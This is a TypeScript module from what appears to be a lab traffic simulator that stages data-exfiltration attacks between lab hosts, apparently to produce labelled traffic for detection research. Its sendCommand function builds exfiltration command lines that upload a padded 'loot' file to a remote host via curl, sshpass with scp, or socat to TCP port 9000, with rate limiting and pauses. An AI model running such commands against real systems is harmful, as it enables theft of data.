import { truncate, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { pause } from '../pause.ts';
import type { Attack, Lab, TimeWindow } from '../scenario.ts';
import { SSH_OPTIONS } from '../traffic/bastion.ts';
import { towards } from './footprint.ts';

/** Much data that leaves for a machine on the internet. */
export interface Exfiltration {
  readonly attacker: number;
  readonly way: keyof typeof PORT_OF;
  /** Of all pieces together. */
  readonly bytes: number;
  /** One transfer each, one after the other. */
  readonly pieces: number;
  /** Within a transfer; socat knows no rate and goes as fast as the path lets it. */
  readonly bytesPerSecond: number;
  readonly pauseMs: number;
}

const PORT_OF = { https: 443, http: 80, scp: 22, socat: 9000 } as const;

/** The attack; it ends when all is sent or its window is over. */
export function exfiltration(theft: Exfiltration, window: TimeWindow): Attack {
  return {
    ...window,
    family: 'exfiltration',
    async play(lab, signal) {
      const file = join(lab.scratch, `loot-${theft.attacker}-${window.startMs}`);
      await writeFile(file, '');
      await truncate(file, Math.ceil(theft.bytes / theft.pieces));
      for (let piece = 0; piece < theft.pieces && !signal.aborted; piece++) {
        if (piece > 0) await pause(theft.pauseMs, signal);
        await lab.run(lab.hosts.attackers[theft.attacker], sendCommand(theft, lab, file), signal);
      }
    },
    footprint: towards(theft.attacker, { victim: 'remote', port: PORT_OF[theft.way] }),
  };
}

function sendCommand(theft: Exfiltration, { hosts, accounts }: Lab, file: string): string[] {
  const { ip } = hosts.remote;
  const rate = String(Math.round(theft.bytesPerSecond));
  const curl = ['curl', '-s', '-k', '--connect-timeout', '4', '-T', file, '--limit-rate', rate];
  // scp counts in kbit/s.
  const scp = [
    'sshpass',
    '-p',
    accounts.remote.password,
    'scp',
    '-q',
    '-l',
    String(Math.ceil(theft.bytesPerSecond / 125)),
  ];
  const ways = {
    https: [...curl, `https://${ip}/upload`],
    http: [...curl, `http://${ip}/upload`],
    scp: [...scp, ...SSH_OPTIONS, file, `${accounts.remote.user}@${ip}:/dev/null`],
    socat: ['socat', '-u', `OPEN:${file}`, `TCP:${ip}:${PORT_OF.socat}`],
  };
  return ways[theft.way];
}
